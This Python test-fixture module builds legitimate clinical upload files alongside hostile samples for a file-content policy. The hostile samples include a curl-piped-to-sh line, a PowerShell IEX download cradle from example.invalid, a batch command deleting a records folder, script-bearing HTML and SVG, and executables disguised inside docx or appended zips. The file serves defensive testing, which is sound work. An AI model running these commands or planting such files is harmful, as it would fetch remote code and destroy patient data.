"""Files clinicians really send, and the hostile files a staff member could try instead.

Made with the libraries real tools use (Pillow, python-docx, openpyxl, the stdlib's wave
and zipfile), so the "legitimate" side is what a phone or an office suite produces.
Shared by the pure tests of policy/file_content.py and the uploads through real Synapse.
"""

from __future__ import annotations

import io
import wave
import zipfile

import docx
import openpyxl
from PIL import Image

MZ_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 256


def photo_jpeg() -> bytes:
    """A camera-style JPEG photo."""
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 120, 90)).save(out, "JPEG", quality=85)
    return out.getvalue()


def photo_png() -> bytes:
    """A screenshot-style PNG."""
    out = io.BytesIO()
    Image.new("RGBA", (32, 32), (10, 200, 30, 255)).save(out, "PNG")
    return out.getvalue()


def pdf() -> bytes:
    """A small valid one-page PDF."""
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    body = b"%PDF-1.7\n"
    offsets = []
    for number, obj in enumerate(objs, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(body)
    body += b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return body + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref


def word_docx() -> bytes:
    """A Word document as python-docx writes it."""
    document = docx.Document()
    document.add_heading("Discharge summary", level=1)
    document.add_paragraph("Observations stable; follow-up in two weeks.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel_xlsx() -> bytes:
    """An Excel workbook as openpyxl writes it."""
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["bed", "patient", "obs"])
    sheet.append([4, "J. Doe", "stable"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def audio_wav() -> bytes:
    """A short voice note (WAV)."""
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\x00\x01" * 800)
    return out.getvalue()


def video_mp4() -> bytes:
    """The start of an MP4 as phones record it (ftyp box, then media data)."""
    ftyp = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
    return ftyp + b"\x00\x00\x00\x10mdat" + b"\x11" * 8


def zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def exe_dressed_as_docx() -> bytes:
    """A zip with the Office parts a .docx has, plus a Windows program."""
    with zipfile.ZipFile(io.BytesIO(word_docx())) as real:
        entries = {name: real.read(name) for name in real.namelist()}
    entries["word/invoice.pdf.exe"] = MZ_EXE
    return zipped(entries)


def docm_with_macros() -> bytes:
    """A Word file carrying a VBA project (macros), as a .docm does."""
    with zipfile.ZipFile(io.BytesIO(word_docx())) as real:
        entries = {name: real.read(name) for name in real.namelist()}
    entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 120
    return zipped(entries)


PLAIN_TEXT = b"Handover: bed 4 stable, bed 7 needs obs at 14:00.\n"
CSV_UTF8 = "bed,patient,obs\n4,Zoë Brandt,stable\n".encode()
CSV_CP1252 = "bed;patient;obs\r\n4;Zoë Brandt;stable\r\n".encode("cp1252")

HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>"
SVG_SCRIPT = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10"/></svg>'
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
POWERSHELL = b"$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://example.invalid/a.ps1')\n"
BATCH = b"@echo off\r\ndel /q C:\\records\\*\r\n"


def hostile() -> dict[str, bytes]:
    """Every active-content case of docs/admin/file-rules.md, by name."""
    text_then_zip = b"notes " * 1500 + zipped({"run.exe": MZ_EXE})
    assert text_then_zip.index(b"PK\x03\x04") > 8192
    return {
        "html-named-png": HTML,
        "html-as-text-html": b"<html><head><title>x</title></head><body>hello</body></html>",
        "svg-with-script": SVG_SCRIPT,
        "svg-plain": SVG_PLAIN,
        "shell-script": SHELL,
        "powershell-script": POWERSHELL,
        "batch-script": BATCH,
        "windows-exe": MZ_EXE,
        "linux-elf": ELF,
        "zip-exe-dressed-as-docx": exe_dressed_as_docx(),
        "docm-macros": docm_with_macros(),
        "png-with-zip-appended": photo_png() + zipped({"a.html": HTML}),
        "pdf-with-zip-appended": pdf() + zipped({"a.exe": MZ_EXE}),
        "text-with-zip-after-8k": text_then_zip,
        "zip-holding-html": zipped({"readme.txt": b"open me", "page.htm": HTML}),
        "tar-gz": b"\x1f\x8b\x08\x00" + b"\x00" * 64,
    }


def legitimate() -> dict[str, bytes]:
    """What clinicians really send, by name."""
    return {
        "photo-jpeg": photo_jpeg(),
        "photo-png": photo_png(),
        "pdf": pdf(),
        "word-docx": word_docx(),
        "excel-xlsx": excel_xlsx(),
        "audio-wav": audio_wav(),
        "video-mp4": video_mp4(),
        "plain-text": PLAIN_TEXT,
        "csv-utf8": CSV_UTF8,
        "csv-windows-1252": CSV_CP1252,
    }
